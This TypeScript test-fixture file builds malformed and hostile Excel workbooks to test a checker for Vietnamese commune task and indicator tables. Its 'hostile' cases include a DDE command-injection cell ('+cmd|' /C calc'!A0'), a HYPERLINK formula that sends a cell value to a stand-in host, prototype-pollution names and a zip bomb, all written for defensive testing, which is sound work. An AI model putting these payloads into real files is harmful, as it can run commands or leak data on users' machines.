/**
 * The corpus of bad input: workbooks officials really send (the header in row 30,
 * hidden rows, dates typed three ways, a protected sheet, a file saved as .xls and
 * renamed) and hostile ones (a decompression bomb, prototype names, formula-like
 * text, a lying zip directory). Most cases are built here, deterministically, into a
 * temporary directory; the few that are best kept as bytes (corrupt, truncated,
 * renamed, encrypted) live in test/fixtures/bad/ (see its README.md).
 *
 * Each case says what a person should see: whether the file can be read at all (and
 * if not, which message), and whether `compute` finds a table in it.
 */
import * as fs from "fs";
import * as path from "path";
import ExcelJS from "exceljs";
import type { CellValue, SheetSnapshot } from "../../src/domain/snapshot";
import { loadSeed } from "../seeds";
import { addSnapshotSheet } from "../xlsx";
import { patchZip, repeatedDeflate, writeZip } from "./zip";

export const STATIC_DIR = path.join(__dirname, "..", "fixtures", "bad");

export interface BadCase {
  id: string;
  /** File name given to the commands. */
  file: string;
  /** What the case is, for test names. */
  about: string;
  /**
   * "ok": the file opens. Otherwise the HostError code openWorkbook must throw, and
   * `message` a pattern its Vietnamese message must match (besides naming the file).
   */
  read: "ok" | { code: string; message: RegExp };
  /**
   * What `compute` must do with it: "table" (exit 0, a copy with the columns),
   * "no-table" (exit 2: no table found), "refused" (exit 1: e.g. a protected sheet).
   * Unreadable files always exit 2.
   */
  compute?: "table" | "no-table" | "refused";
  /**
   * The same content as a plain seed workbook: `check` must find exactly what it finds
   * in the twin (finding codes and cells, rows shifted by `rowOffset`), sheet by sheet.
   */
  twin?: { sheets: () => SheetSnapshot[]; rowOffset?: number };
  /** `check` has nothing to check (no sheet at all): exit 2 with its message, not "ready to submit". */
  nothingToCheck?: boolean;
  /** Build the bytes (static cases read them from test/fixtures/bad/). */
  build(): Promise<Uint8Array> | Uint8Array;
}

const FIXED_DATE = new Date(Date.UTC(2026, 0, 1));

function newBook(): ExcelJS.Workbook {
  const wb = new ExcelJS.Workbook();
  wb.creator = "bad-corpus";
  wb.created = FIXED_DATE;
  wb.modified = FIXED_DATE;
  return wb;
}

async function bytesOf(wb: ExcelJS.Workbook): Promise<Uint8Array> {
  return new Uint8Array((await wb.xlsx.writeBuffer()) as ArrayBuffer);
}

/** A workbook of snapshot sheets, then `tweak` on the ExcelJS workbook. */
async function book(sheets: SheetSnapshot[], tweak?: (wb: ExcelJS.Workbook) => void): Promise<Uint8Array> {
  const wb = newBook();
  // addSnapshotSheet sets column widths, which an empty sheet does not have.
  for (const s of sheets) if (s.values.some((r) => r.some((v) => v !== null))) addSnapshotSheet(wb, s);
  else wb.addWorksheet(s.name);
  tweak?.(wb);
  return bytesOf(wb);
}

const seed = (id: string, name: string) => loadSeed(id).sheet(name);
const copy = (s: SheetSnapshot, name = s.name): SheetSnapshot => ({
  ...s,
  name,
  values: s.values.map((r) => [...r]),
  numberFormats: s.numberFormats?.map((r) => [...r]),
  merges: [...(s.merges ?? [])],
});

/** A small tasks table with a deadline column and the columns departments add. */
function tasksSheet(name: string, rows: CellValue[][], formats?: (string | null)[][]): SheetSnapshot {
  const header = ["TT", "Tên nhiệm vụ", "Đơn vị chủ trì", "Sản phẩm", "Thời gian hoàn thành", "Tình trạng", "Ngày hoàn thành"];
  const values: CellValue[][] = [["ỦY BAN NHÂN DÂN XÃ TÂN LỢI"], ["DANH MỤC NHIỆM VỤ NĂM 2026"], [], header, ...rows];
  const numberFormats = values.map((r, i) => r.map((_, j) => (i >= 4 ? (formats?.[i - 4]?.[j] ?? null) : null)));
  return { name, values, numberFormats, merges: [] };
}

const TASK = (n: number, deadline: CellValue, status: CellValue = null, done: CellValue = null): CellValue[] => [
  n,
  `Nhiệm vụ số ${n}: triển khai nền tảng số`,
  "Phòng Văn hóa - Xã hội",
  "Báo cáo kết quả",
  deadline,
  status,
  done,
];

/** The indicator table of seed 000 with some of its cells replaced (sheet row/col, 1-based). */
function indicatorsWith(cells: Record<string, CellValue>, name = "Chỉ tiêu", formats: Record<string, string> = {}): SheetSnapshot {
  const s = copy(seed("000", "Chỉ tiêu"), name);
  const set = (addr: string, v: CellValue) => {
    const m = addr.match(/^([A-Z]+)(\d+)$/)!;
    const col = m[1].split("").reduce((n, ch) => n * 26 + ch.charCodeAt(0) - 64, 0);
    const row = Number(m[2]);
    while (s.values.length < row) s.values.push([]);
    while (s.numberFormats!.length < row) s.numberFormats!.push([]);
    s.values[row - 1][col - 1] = v;
    for (let c = 0; c < col; c++) s.values[row - 1][c] ??= null;
    s.numberFormats![row - 1][col - 1] = formats[addr] ?? null;
  };
  for (const [a, v] of Object.entries(cells)) set(a, v);
  return s;
}

/** Serial of an ISO date. */
function serial(iso: string): number {
  return Math.round((Date.parse(`${iso}T00:00:00Z`) - Date.UTC(1899, 11, 30)) / 86_400_000);
}

function staticFile(name: string): () => Uint8Array {
  return () => new Uint8Array(fs.readFileSync(path.join(STATIC_DIR, name)));
}

const LONG = ("Nâng cao năng lực số cho cán bộ, công chức và người dân trên địa bàn xã; ").repeat(80).slice(0, 5000);

export const CASES: BadCase[] = [
  // ───────────── structure: where the table is, or is not ─────────────
  {
    id: "empty-workbook",
    file: "trong.xlsx",
    about: "an empty workbook (one blank sheet)",
    read: "ok",
    compute: "no-table",
    build: () => book([{ name: "Sheet1", values: [] }]),
  },
  {
    id: "no-sheets",
    file: "khong-co-trang.xlsx",
    about: "a workbook with no sheet at all",
    read: "ok",
    nothingToCheck: true,
    compute: "no-table",
    build: () => bytesOf(newBook()),
  },
  {
    id: "titles-only",
    file: "chi-tieu-de.xlsx",
    about: "a sheet with titles only",
    read: "ok",
    compute: "no-table",
    build: () =>
      book([
        {
          name: "Phụ lục I",
          values: [["ỦY BAN NHÂN DÂN XÃ TÂN LỢI"], ["PHỤ LỤC I"], ["DANH MỤC CÁC MỤC TIÊU CỤ THỂ NĂM 2026"], ["(Kèm theo Kế hoạch số /KH-UBND)"]],
        },
      ]),
  },
  {
    id: "header-row-30",
    file: "tieu-de-dong-30.xlsx",
    about: "the header in row 30",
    read: "ok",
    compute: "table",
    twin: { sheets: () => [seed("000", "Chỉ tiêu")], rowOffset: 26 },
    build: () => {
      const s = copy(seed("000", "Chỉ tiêu"));
      const pad = 26; // the seed's header is in row 4
      s.values = [...s.values.slice(0, 2), ...Array.from({ length: pad }, () => []), ...s.values.slice(2)];
      s.numberFormats = [...s.numberFormats!.slice(0, 2), ...Array.from({ length: pad }, () => []), ...s.numberFormats!.slice(2)];
      return book([s]);
    },
  },
  {
    id: "header-two-rows",
    file: "tieu-de-hai-dong.xlsx",
    about: "a header merged over two rows (STT, name, unit merged down; 'Kết quả' over two sub-columns)",
    read: "ok",
    compute: "table",
    build: () => {
      const src = seed("000", "Chỉ tiêu");
      const body = src.values.slice(4).map((r) => [r[0], r[1], r[2], r[3], null, r[4]]);
      const values: CellValue[][] = [
        ["ỦY BAN NHÂN DÂN XÃ NHƠN TRẠCH"],
        ["MỤC TIÊU CỤ THỂ NĂM 2026"],
        [],
        ["STT", "Nội dung chỉ tiêu", "Đơn vị tính", "Kết quả", null, "Đơn vị chủ trì"],
        [null, null, null, "Chỉ tiêu", "Thực hiện", null],
        ...body,
      ];
      return book([{ name: "Chỉ tiêu", values, merges: ["A4:A5", "B4:B5", "C4:C5", "D4:E4", "F4:F5"] }]);
    },
  },
  {
    id: "two-tables",
    file: "hai-bang.xlsx",
    about: "indicators and tasks one under the other in one sheet",
    read: "ok",
    compute: "table",
    build: () => {
      const a = copy(seed("000", "Chỉ tiêu"));
      const b = seed("001", "Phụ lục nhiệm vụ");
      a.values = [...a.values, [], [], ...b.values.map((r) => [...r])];
      a.numberFormats = [...a.numberFormats!, [], [], ...b.values.map((r) => r.map(() => null))];
      return book([a]);
    },
  },
  {
    id: "header-only",
    file: "chi-co-tieu-de-bang.xlsx",
    about: "a header row and no data rows",
    read: "ok",
    compute: "table",
    build: () => book([tasksSheet("Nhiệm vụ", [])]),
  },
  {
    id: "hidden-rows-columns",
    file: "an-dong-cot.xlsx",
    about: "hidden rows and columns",
    read: "ok",
    compute: "table",
    twin: { sheets: () => [seed("000", "Chỉ tiêu")] },
    build: () =>
      book([copy(seed("000", "Chỉ tiêu"))], (wb) => {
        const ws = wb.worksheets[0];
        for (const r of [3, 7, 8, 20]) ws.getRow(r).hidden = true;
        ws.getColumn(3).hidden = true;
        ws.getColumn(7).hidden = true;
      }),
  },
  {
    id: "autofilter",
    file: "loc-tu-dong.xlsx",
    about: "an autofiltered table with a frozen header",
    read: "ok",
    compute: "table",
    twin: { sheets: () => [seed("001", "Phụ lục nhiệm vụ")] },
    build: () =>
      book([copy(seed("001", "Phụ lục nhiệm vụ"))], (wb) => {
        const ws = wb.worksheets[0];
        ws.autoFilter = "A7:F31";
        ws.views = [{ state: "frozen", ySplit: 7 }];
      }),
  },
  {
    id: "duplicate-headers",
    file: "trung-cot.xlsx",
    about: "two columns with the same header ('Kết quả' twice, 'STT' twice)",
    read: "ok",
    compute: "table",
    build: () => {
      const s = copy(seed("000", "Chỉ tiêu"));
      s.values = s.values.map((r, i) => [...r, i === 3 ? "Kết quả" : i >= 4 ? r[3] : null, i === 3 ? "STT" : null]);
      return book([s]);
    },
  },
  {
    id: "columns-200",
    file: "200-cot.xlsx",
    about: "200 columns",
    read: "ok",
    compute: "table",
    build: () => {
      const s = copy(seed("000", "Chỉ tiêu"));
      s.values = s.values.map((r, i) => [...r, ...Array.from({ length: 195 }, (_, j) => (i === 3 ? `Cột phụ ${j + 6}` : i > 3 ? (i * 7 + j) % 13 : null))]);
      s.numberFormats = s.values.map((r) => r.map(() => null));
      return book([s]);
    },
  },
  {
    id: "rows-20000",
    file: "20000-dong.xlsx",
    about: "20,000 task rows",
    read: "ok",
    compute: "table",
    build: () => {
      const statuses = ["Hoàn thành", "Đang thực hiện", "Chưa thực hiện", null];
      // Task names repeat every 250 rows: the size is the point here, not 20,000 different
      // names to match against the catalog (each costs the same as in a small sheet).
      const rows = Array.from({ length: 20_000 }, (_, i) => {
        const row = TASK(i + 1, i % 3 === 0 ? `Quý ${["I", "II", "III", "IV"][i % 4]}/2026` : `${(i % 12) + 1}/2026`, statuses[i % 4]);
        row[1] = `Nhiệm vụ số ${(i % 250) + 1}: triển khai nền tảng số`;
        return row;
      });
      return book([tasksSheet("Nhiệm vụ", rows)]);
    },
  },
  {
    id: "far-cell",
    file: "o-xa.xlsx",
    about: "a table and one stray cell at XFD1048576",
    read: "ok",
    compute: "table",
    twin: { sheets: () => [seed("000", "Chỉ tiêu")] },
    build: () => book([copy(seed("000", "Chỉ tiêu"))], (wb) => (wb.worksheets[0].getCell("XFD1048576").value = "x")),
  },
  {
    id: "many-sheets",
    file: "nhieu-trang.xlsx",
    about: "40 sheets, each an appendix table",
    read: "ok",
    compute: "table",
    twin: { sheets: () => Array.from({ length: 40 }, () => seed("000", "Chỉ tiêu")) },
    build: () => book(Array.from({ length: 40 }, (_, i) => copy(seed("000", "Chỉ tiêu"), `Chỉ tiêu ${i + 1}`))),
  },

  // ───────────── values where they should not be ─────────────
  {
    id: "error-values",
    file: "gia-tri-loi.xlsx",
    about: "#REF!, #DIV/0!, #N/A and formulas where values are expected",
    read: "ok",
    compute: "table",
    build: () =>
      book([copy(seed("000", "Chỉ tiêu"))], (wb) => {
        const ws = wb.worksheets[0];
        ws.getCell("F4").value = "Kết quả thực hiện";
        ws.getCell("D6").value = { error: "#REF!" } as ExcelJS.CellErrorValue;
        ws.getCell("F6").value = { error: "#DIV/0!" } as ExcelJS.CellErrorValue;
        ws.getCell("F7").value = { formula: "1/0", result: { error: "#DIV/0!" } } as ExcelJS.CellFormulaValue;
        ws.getCell("D9").value = { formula: "0.6+0.4", result: 1 } as ExcelJS.CellFormulaValue;
        ws.getCell("D9").numFmt = "0%";
        ws.getCell("B10").value = { formula: "#REF!", result: { error: "#REF!" } } as ExcelJS.CellFormulaValue;
        ws.getCell("E11").value = { error: "#N/A" } as ExcelJS.CellErrorValue;
        ws.getCell("F12").value = { formula: "VLOOKUP(\"x\",A1:A2,2,FALSE)", result: { error: "#N/A" } } as ExcelJS.CellFormulaValue;
        ws.getCell("A13").value = { formula: "ROW()-8" } as ExcelJS.CellFormulaValue; // no cached result
        ws.getCell("F14").value = { formula: "\"72%\"", result: "72%" } as ExcelJS.CellFormulaValue;
      }),
  },
  {
    id: "booleans-and-extremes",
    file: "so-cuc-tri.xlsx",
    about: "TRUE/FALSE, 1e308, -0, 1e-300 and negative targets and results",
    read: "ok",
    compute: "table",
    build: () =>
      book([
        indicatorsWith({ F4: "Kết quả thực hiện", D6: true, F6: false, D7: 1e308, F7: 1e308, D9: -0.5, F9: 1e-300, F10: -1, D11: 0, F11: 0, F12: 99999999999 }),
      ]),
  },
  {
    id: "dates-text",
    file: "ngay-dang-chu.xlsx",
    about: "dates typed as text in several ways",
    read: "ok",
    compute: "table",
    build: () =>
      book([
        tasksSheet("Nhiệm vụ", [
          TASK(1, "30/06/2026", "Hoàn thành", "15/06/2026"),
          TASK(2, "15-07-2026", "Hoàn thành", "2026-07-20"),
          TASK(3, "31.12.2026", "Đang thực hiện"),
          TASK(4, "ngày 30 tháng 9 năm 2026"),
          TASK(5, "31/02/2026", "Hoàn thành", "00/00/0000"),
          TASK(6, "Quý II/2026", "Hoàn thành", "hôm qua"),
          TASK(7, "Trước 20/11"),
        ]),
      ]),
  },
  {
    id: "dates-serial",
    file: "ngay-dang-so.xlsx",
    about: "dates as serial numbers in General format",
    read: "ok",
    compute: "table",
    build: () =>
      book([
        tasksSheet("Nhiệm vụ", [
          TASK(1, serial("2026-06-30"), "Hoàn thành", serial("2026-06-15")),
          TASK(2, serial("2026-12-31"), "Đang thực hiện"),
          TASK(3, 60, "Hoàn thành", 0), // 1900-02-29, Excel's phantom day; 0
          TASK(4, 2958466, "Hoàn thành", -5), // past 31/12/9999; negative
          TASK(5, 2026.5),
        ]),
      ]),
  },
  {
    id: "dates-real",
    file: "ngay-that.xlsx",
    about: "real dates with date formats (and one with a time)",
    read: "ok",
    compute: "table",
    build: () =>
      book([tasksSheet("Nhiệm vụ", [TASK(1, 0), TASK(2, 0), TASK(3, 0)])], (wb) => {
        const ws = wb.worksheets[0];
        const put = (addr: string, d: Date, fmt: string) => {
          ws.getCell(addr).value = d;
          ws.getCell(addr).numFmt = fmt;
        };
        put("E5", new Date(Date.UTC(2026, 5, 30)), "dd/mm/yyyy");
        put("G5", new Date(Date.UTC(2026, 5, 15)), "dd/mm/yyyy");
        ws.getCell("F5").value = "Hoàn thành";
        put("E6", new Date(Date.UTC(2026, 8, 30, 17, 30)), "d/m/yyyy h:mm");
        put("E7", new Date(Date.UTC(2026, 11, 31)), "[$-42A]dd mmmm yyyy");
      }),
  },
  {
    id: "nfd-text",
    file: "chu-to-hop.xlsx",
    about: "every text (and the sheet names) in NFD, as some Mac and web tools write it",
    read: "ok",
    compute: "table",
    twin: { sheets: () => [seed("002", "Phụ lục I"), seed("002", "Phụ lục II")] },
    build: () => {
      const nfd = (s: SheetSnapshot): SheetSnapshot => ({
        ...copy(s, s.name.normalize("NFD")),
        values: s.values.map((r) => r.map((v) => (typeof v === "string" ? v.normalize("NFD") : v))),
      });
      return book([nfd(seed("002", "Phụ lục I")), nfd(seed("002", "Phụ lục II"))]);
    },
  },
  {
    id: "long-cells",
    file: "o-rat-dai.xlsx",
    about: "a 5,000-character cell in the name, lead and target columns, and a 32,767-character heading",
    read: "ok",
    compute: "table",
    build: () => book([indicatorsWith({ B6: LONG, E7: LONG, D9: LONG, A1: "Ủ".repeat(32767) })]),
  },
  {
    id: "odd-characters",
    file: "ky-tu-la.xlsx",
    about: "zero-width spaces, bidi marks, emoji, tabs, NBSP, a CR, a control character and a literal \"_x0001_\"",
    read: "ok",
    compute: "table",
    build: async () => {
      const written = await book([
        indicatorsWith({
          B6: "Tỉ lệ\u200B phủ sóng\u00A05G\ttrên địa bàn xã 📶",
          C6: "\u202E%\u202C",
          D7: "\uFEFF100%\u200D",
          E7: "Phòng\u2028VH-XH",
          B9: "MARK-B9",
          E9: "Phòng VH–XH \u{1F600}",
        }),
      ]);
      // As Excel stores them: a literal "_x0001_" typed by a person (escaped as
      // "_x005F_x0001_"), a carriage return ("_x000D_") and a control character.
      return patchZip(written, (parts) => {
        const xml = parts.get("xl/sharedStrings.xml")!.toString("utf8");
        const patched = xml.replace("MARK-B9", "_x005F_x0001_ chuỗi _x000D_ lạ _x0007_ chuông");
        if (patched === xml) throw new Error("odd-characters: patch did not apply");
        parts.set("xl/sharedStrings.xml", Buffer.from(patched, "utf8"));
      });
    },
  },
  {
    id: "rich-text-hyperlinks",
    file: "chu-dinh-dang.xlsx",
    about: "rich text names and hyperlinked cells",
    read: "ok",
    compute: "table",
    twin: { sheets: () => [seed("000", "Chỉ tiêu")] },
    build: () =>
      book([copy(seed("000", "Chỉ tiêu"))], (wb) => {
        const ws = wb.worksheets[0];
        ws.getCell("B6").value = { richText: [{ text: "Tỉ lệ phủ sóng ", font: { bold: true } }, { text: "5G trên địa bàn xã" }] };
        ws.getCell("E6").value = { text: "Phòng VH-XH", hyperlink: "https://example.invalid/vhxh" };
        ws.getCell("D7").value = { richText: [{ text: "100" }, { text: "%", font: { italic: true } }] };
      }),
  },
  {
    id: "comments-validation",
    file: "ghi-chu-kiem-tra.xlsx",
    about: "notes, data validation and conditional formats the official set up",
    read: "ok",
    compute: "table",
    twin: { sheets: () => [seed("000", "Chỉ tiêu")] },
    build: () =>
      book([copy(seed("000", "Chỉ tiêu"))], (wb) => {
        const ws = wb.worksheets[0];
        ws.getCell("D6").note = "Số liệu của VNPT, tháng 5";
        ws.getCell("E6").dataValidation = { type: "list", allowBlank: true, formulae: ['"Phòng VH-XH,Phòng Kinh tế"'] };
        ws.addConditionalFormatting({
          ref: "D6:D31",
          rules: [{ type: "containsText", operator: "containsText", text: "%", priority: 1, style: { font: { color: { argb: "FF0000FF" } } } }],
        });
      }),
  },

  // ───────────── hostile names and text ─────────────
  {
    id: "protected-sheet",
    file: "trang-bao-ve.xlsx",
    about: "a protected sheet (with a password)",
    read: "ok",
    compute: "refused",
    build: async () => {
      const wb = newBook();
      addSnapshotSheet(wb, copy(seed("000", "Chỉ tiêu")));
      await wb.worksheets[0].protect("matkhau", { selectLockedCells: true });
      return bytesOf(wb);
    },
  },
  {
    id: "sheet-names-unusual",
    file: "ten-trang-la.xlsx",
    about: "sheet names with quotes, brackets-like, symbols, emoji, leading spaces and 31 characters",
    read: "ok",
    compute: "table",
    build: () =>
      book([
        copy(seed("000", "Chỉ tiêu"), "Phụ lục (1) – bản 'sửa' 2"),
        copy(seed("001", "Phụ lục nhiệm vụ"), "#$%&()=+-;,.!~`^{}"),
        copy(seed("000", "Chỉ tiêu"), "Chỉ tiêu 😀 Ω≈"),
        copy(seed("000", "Chỉ tiêu"), "  khoảng trắng  "),
        copy(seed("000", "Chỉ tiêu"), "Phụ lục I chỉ tiêu năm 2026 xã"),
        { name: "!A1 'x' B2;C3", values: [["=1+1"]] },
      ]),
  },
  {
    id: "sheet-proto",
    file: "trang-proto.xlsx",
    about: "sheets named __proto__, constructor, toString and hasOwnProperty",
    read: "ok",
    compute: "table",
    build: () =>
      book([
        copy(seed("000", "Chỉ tiêu"), "__proto__"),
        copy(seed("001", "Phụ lục nhiệm vụ"), "constructor"),
        copy(seed("000", "Chỉ tiêu"), "toString"),
        { name: "hasOwnProperty", values: [["__proto__", "constructor"], ["prototype", "valueOf"]] },
      ]),
  },
  {
    id: "indicator-proto-names",
    file: "chi-tieu-proto.xlsx",
    about: "indicator, unit, target and lead cells named constructor, toString, __proto__, valueOf",
    read: "ok",
    compute: "table",
    build: () =>
      book([
        indicatorsWith({
          B6: "constructor",
          C6: "__proto__",
          D6: "toString",
          E6: "hasOwnProperty",
          B7: "__proto__",
          E7: "constructor; __proto__, toString",
          B9: "toString",
          C9: "valueOf",
          B10: "hasOwnProperty",
          B11: "prototype",
          D11: "__defineGetter__",
        }),
        tasksSheet("Nhiệm vụ", [
          ["constructor", "__proto__", "toString", "valueOf", "hasOwnProperty", "__proto__", "constructor"],
          [2, "toString", "constructor", "__proto__", "Quý II/2026", "constructor", "toString"],
        ]),
      ]),
  },
  {
    id: "formula-like-text",
    file: "chu-giong-cong-thuc.xlsx",
    about: "text that looks like a formula (=HYPERLINK(…), @SUM(…), +cmd, -2+3) in every kind of cell",
    read: "ok",
    compute: "table",
    build: () =>
      book([
        indicatorsWith({
          B6: '=HYPERLINK("http://example.invalid/?q="&A1,"Bấm vào đây")',
          C6: "@SUM(A1:A9)",
          D7: "+cmd|' /C calc'!A0",
          E7: "-2+3",
          B9: "=1+1",
          E9: "=Phòng VH-XH",
          D10: "'≥ 60%",
        }),
        tasksSheet("Nhiệm vụ", [TASK(1, "=TODAY()", "@Hoàn thành", "+30/06/2026"), TASK(2, "-Quý II/2026", "=\"Hoàn thành\"")]),
      ]),
  },
  {
    id: "existing-addin-sheets",
    file: "da-co-trang.xlsx",
    about: "sheets already named Phụ lục I, Phụ lục II, Danh mục, Tổng quan and Phụ lục I (2)",
    read: "ok",
    compute: "table",
    build: () =>
      book([
        copy(seed("000", "Chỉ tiêu"), "Phụ lục I"),
        copy(seed("001", "Phụ lục nhiệm vụ"), "PHỤ LỤC II"),
        copy(seed("000", "Chỉ tiêu"), "Phụ lục I (2)"),
        { name: "Danh mục", values: [["Ghi chú riêng của phòng"], ["không phải danh mục của tỉnh"]] },
        { name: "Tổng quan", values: [["Bảng tổng quan tự làm"]] },
      ]),
  },
  {
    id: "hostile-list-sheet",
    file: "danh-muc-la.xlsx",
    about: "a 'Danh mục' sheet full of garbage (prototype names, long text, formula-like text)",
    read: "ok",
    compute: "table",
    build: () =>
      book([
        copy(seed("000", "Chỉ tiêu")),
        {
          name: "Danh mục",
          values: [
            ["Mã", "Tên chỉ tiêu", "Đơn vị tính", "Chỉ tiêu"],
            ["__proto__", "constructor", "toString", "≥ 60%"],
            ["HT-01", LONG, "%", "=1+1"],
            [null, "Tỷ lệ phủ sóng 5G", "%", "@SUM(A1)"],
            ["HT-01", "Trùng mã", "%", "≥ abc"],
          ],
        },
      ]),
  },

  // ───────────── broken inside a valid zip ─────────────
  {
    id: "wrong-dimension",
    file: "kich-thuoc-sai.xlsx",
    about: 'a stored dimension <dimension ref="A1:B2"/> while the data goes to Z500',
    read: "ok",
    compute: "table",
    twin: { sheets: () => [seed("000", "Chỉ tiêu")] },
    build: async () => {
      const s = copy(seed("000", "Chỉ tiêu"));
      // Notes far to the right of the table, down to Z500.
      for (let r = 40; r <= 500; r += 10) s.values[r - 1] = Array.from({ length: 26 }, (_, c) => (c === 25 ? `Ghi chú dòng ${r}` : null));
      s.numberFormats = s.values.map((r) => (r ?? []).map(() => null));
      const good = await book([s]);
      return patchZip(good, (parts) => {
        const xml = parts.get("xl/worksheets/sheet1.xml")!.toString("utf8");
        const patched = /<dimension ref="[^"]*"\/>/.test(xml) ? xml.replace(/<dimension ref="[^"]*"\/>/, '<dimension ref="A1:B2"/>') : xml.replace("<sheetViews>", '<dimension ref="A1:B2"/><sheetViews>');
        if (!patched.includes('<dimension ref="A1:B2"/>')) throw new Error("wrong-dimension: patch did not apply");
        parts.set("xl/worksheets/sheet1.xml", Buffer.from(patched, "utf8"));
      });
    },
  },
  {
    id: "defined-names-proto",
    file: "ten-vung-proto.xlsx",
    about: "defined names __proto__, constructor (pointing at #REF!) and toString, as a hand-edited workbook may carry",
    read: "ok",
    compute: "table",
    build: async () => {
      const good = await book([copy(seed("000", "Chỉ tiêu"))]);
      return patchZip(good, (parts) => {
        const xml = parts.get("xl/workbook.xml")!.toString("utf8");
        const names =
          "<definedNames>" +
          '<definedName name="__proto__">\'Chỉ tiêu\'!$A$1</definedName>' +
          '<definedName name="constructor">#REF!</definedName>' +
          '<definedName name="toString">\'Chỉ tiêu\'!$B$2:$C$3</definedName>' +
          "</definedNames>";
        const patched = xml.replace(/<definedNames>[\s\S]*?<\/definedNames>|(?<=<\/sheets>)/, names);
        if (!patched.includes('name="__proto__"')) throw new Error("defined-names-proto: patch did not apply");
        parts.set("xl/workbook.xml", Buffer.from(patched, "utf8"));
      });
    },
  },
  {
    id: "overlapping-merges",
    file: "gop-o-chong.xlsx",
    about: "two merged areas that overlap (A1:C3 and B2:D4), which Excel would repair",
    // ExcelJS refuses the file (Excel would offer to repair it): reported as damaged.
    read: { code: "unreadable", message: /tệp bị hỏng hoặc không đúng định dạng \.xlsx/ },
    build: async () => {
      const good = await book([copy(seed("000", "Chỉ tiêu"))]);
      return patchZip(good, (parts) => {
        const xml = parts.get("xl/worksheets/sheet1.xml")!.toString("utf8");
        const patched = xml.replace(/<mergeCells[^>]*>[\s\S]*?<\/mergeCells>/, '<mergeCells count="3"><mergeCell ref="A1:B1"/><mergeCell ref="A1:C3"/><mergeCell ref="B2:D4"/></mergeCells>');
        if (patched === xml) throw new Error("overlapping-merges: patch did not apply");
        parts.set("xl/worksheets/sheet1.xml", Buffer.from(patched, "utf8"));
      });
    },
  },
  {
    id: "bad-shared-string",
    file: "chuoi-chung-sai.xlsx",
    about: "cells pointing at shared strings that do not exist",
    // ExcelJS refuses the file (Excel would offer to repair it): reported as damaged.
    read: { code: "unreadable", message: /tệp bị hỏng hoặc không đúng định dạng \.xlsx/ },
    build: async () => {
      const good = await book([copy(seed("000", "Chỉ tiêu"))]);
      return patchZip(good, (parts) => {
        const xml = parts.get("xl/worksheets/sheet1.xml")!.toString("utf8");
        let n = 0;
        const patched = xml.replace(/(<c r="(?:D6|E7|B9)"[^>]*t="s"[^>]*>)<v>\d+<\/v>/g, (_m, open: string) => (n++, `${open}<v>99999</v>`));
        if (n === 0) throw new Error("bad-shared-string: patch did not apply");
        parts.set("xl/worksheets/sheet1.xml", Buffer.from(patched, "utf8"));
      });
    },
  },
  {
    id: "malformed-sheet-xml",
    file: "xml-hong.xlsx",
    about: "a sheet whose XML is cut off in the middle of a tag",
    read: { code: "unreadable", message: /tệp bị hỏng hoặc không đúng định dạng \.xlsx/ },
    build: async () => {
      const good = await book([copy(seed("000", "Chỉ tiêu"))]);
      return patchZip(good, (parts) => {
        const xml = parts.get("xl/worksheets/sheet1.xml")!;
        parts.set("xl/worksheets/sheet1.xml", xml.subarray(0, Math.floor(xml.length / 2)));
      });
    },
  },
  {
    id: "missing-workbook-part",
    file: "thieu-workbook.xlsx",
    about: "a zip with [Content_Types].xml and a sheet but no xl/workbook.xml",
    read: { code: "not-xlsx", message: /không phải là sổ làm việc Excel/ },
    build: async () => {
      const good = await book([copy(seed("000", "Chỉ tiêu"))]);
      return patchZip(good, (parts) => {
        parts.delete("xl/workbook.xml");
      });
    },
  },
  {
    id: "docx-renamed",
    file: "van-ban.xlsx",
    about: "a Word document renamed to .xlsx",
    read: { code: "not-xlsx", message: /văn bản Word/ },
    build: () =>
      writeZip([
        { name: "[Content_Types].xml", data: Buffer.from('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>') },
        { name: "word/document.xml", data: Buffer.from('<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>') },
      ]),
  },
  {
    id: "xlsb-renamed",
    file: "nhi-phan.xlsx",
    about: "a binary workbook (.xlsb) renamed to .xlsx",
    read: { code: "not-xlsx", message: /\.xlsb/ },
    build: () =>
      writeZip([
        { name: "[Content_Types].xml", data: Buffer.from('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>') },
        { name: "xl/workbook.bin", data: Buffer.from([0x83, 0x01, 0x00, 0x80, 0x01, 0x00]) },
      ]),
  },

  // ───────────── not an .xlsx at all (static bytes) ─────────────
  {
    id: "empty-file",
    file: "rong.xlsx",
    about: "a file of 0 bytes",
    read: { code: "empty-file", message: /rỗng \(0 byte\)/ },
    build: () => new Uint8Array(0),
  },
  {
    id: "corrupt-zip",
    file: "hong.xlsx",
    about: "a zip signature followed by garbage",
    read: { code: "truncated", message: /bị hỏng hoặc không trọn vẹn/ },
    build: staticFile("corrupt.xlsx"),
  },
  {
    id: "truncated",
    file: "cat-cut.xlsx",
    about: "a real .xlsx cut off after 60% of its bytes (an interrupted download)",
    read: { code: "truncated", message: /không trọn vẹn/ },
    build: staticFile("truncated.xlsx"),
  },
  {
    id: "xls-renamed",
    file: "excel-cu.xlsx",
    about: "an Excel 97-2003 .xls renamed to .xlsx",
    read: { code: "not-xlsx", message: /tệp \.xls cũ/ },
    build: staticFile("xls-renamed.xlsx"),
  },
  {
    id: "csv-renamed",
    file: "van-ban-csv.xlsx",
    about: "a CSV file renamed to .xlsx",
    read: { code: "not-xlsx", message: /CSV/ },
    build: staticFile("csv-renamed.xlsx"),
  },
  {
    id: "html-renamed",
    file: "xuat-tu-phan-mem.xlsx",
    about: "an HTML table saved as .xlsx (what some office software exports)",
    read: { code: "not-xlsx", message: /HTML/ },
    build: staticFile("html-renamed.xlsx"),
  },
  {
    id: "ods-renamed",
    file: "libreoffice.xlsx",
    about: "an OpenDocument spreadsheet (.ods) renamed to .xlsx",
    read: { code: "not-xlsx", message: /OpenDocument/ },
    build: staticFile("ods-renamed.xlsx"),
  },
  {
    id: "password-protected",
    file: "co-mat-khau.xlsx",
    about: "a password-protected workbook (an OLE container with EncryptionInfo and EncryptedPackage)",
    read: { code: "not-xlsx", message: /đặt mật khẩu/ },
    build: staticFile("password.xlsx"),
  },

  // ───────────── too large ─────────────
  {
    id: "zip-bomb",
    file: "bom-nen.xlsx",
    about: "a decompression bomb: sharedStrings.xml inflates to 300 MB from a few hundred KB",
    read: { code: "zip-too-large", message: /xl\/sharedStrings\.xml.*300 MB/ },
    build: async () => bomb(false),
  },
  {
    id: "zip-bomb-lying",
    file: "bom-nen-noi-doi.xlsx",
